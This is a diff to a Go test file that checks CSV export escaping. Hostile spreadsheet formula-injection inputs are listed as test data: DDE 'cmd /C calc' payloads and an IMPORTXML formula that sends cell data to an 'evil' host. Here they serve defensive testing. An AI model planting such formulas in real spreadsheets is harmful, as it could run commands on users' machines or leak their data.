@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"encoding/csv"
 	"errors"
+	"regexp"
 	"slices"
 	"strings"
 	"testing"
@@ -15,11 +16,15 @@ import (
 	"github.com/offerdesk/offerdesk/store/memstore"
 )
 
+// exportedCSV reads the cells back, and wants each of them to be quoted.
 func exportedCSV(t testing.TB, d *offer.Desk) [][]string {
 	t.Helper()
 	var b bytes.Buffer
 	if err := d.ExportCSV(t.Context(), &b); err != nil {
 		t.Fatal(err)
+	}
+	if rest := regexp.MustCompile(`(?m)("([^"]|"")*",)*"([^"]|"")*"\n`).ReplaceAll(b.Bytes(), nil); len(rest) > 0 {
+		t.Errorf("cells are not quoted: %.200q", rest)
 	}
 	rows, err := csv.NewReader(&b).ReadAll()
 	if err != nil {
@@ -76,6 +81,10 @@ func TestHostileCells(t *testing.T) {
 		"=1+1": "'=1+1", "+1 555": "'+1 555", "@SUM(A1)": "'@SUM(A1)", "-1+cmd|' /C calc'!A0": "'-1+cmd|' /C calc'!A0", "-": "'-", "--1": "'--1", "+1": "'+1",
 		"\t=1": "'\t=1", "\tx": "'\tx", "\rx": "'\rx", "\nx": "'\nx", " =1": "' =1", "\u00a0=1": "'\u00a0=1", "\ufeff=1": "'\ufeff=1", "\x00=1": "'\x00=1",
 		"＝1": "'＝1", "＋1": "'＋1", "－1": "'－1", "＠x": "'＠x", `=HYPERLINK("http://x","y")`: `'=HYPERLINK("http://x","y")`, "-1e9": "'-1e9", "-1,5": "'-1,5", "-1\n=2": "'-1\n=2",
+		"|calc": "'|calc", "%0A=1": "'%0A=1", "a;=1+1": "a;=1+1", "\u200b=1+1": "'\u200b=1+1", `"=1+1"`: `"=1+1"`, "\\.": "\\.", `"`: `"`, "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
+		`=IMPORTXML(CONCAT("//evil/",A1),"//a")`: `'=IMPORTXML(CONCAT("//evil/",A1),"//a")`, `=DDE("cmd";"/C calc";"x")`: `'=DDE("cmd";"/C calc";"x")`,
+		"12345678901234567890": "'12345678901234567890", "123456789012345": "123456789012345", "1234567890123456": "'1234567890123456", "1E5": "'1E5", "0012": "'0012", "2026-01-01": "'2026-01-01",
+		"1/2": "'1/2", "TRUE": "'TRUE", "0.12345678901234567": "'0.12345678901234567", "-5.00": "-5.00", "1.2.3": "'1.2.3", "A-1": "A-1",
 		"-12.50": "-12.50", "-7": "-7", "12": "12", "0.5": "0.5", "": "", "a=b": "a=b", "a-b": "a-b", "it's": "it's", "'x": "'x", "a,\"b\"\nc": "a,\"b\"\nc", "été": "été",
 	}
 	s := memstore.New(offer.Kinds()...)
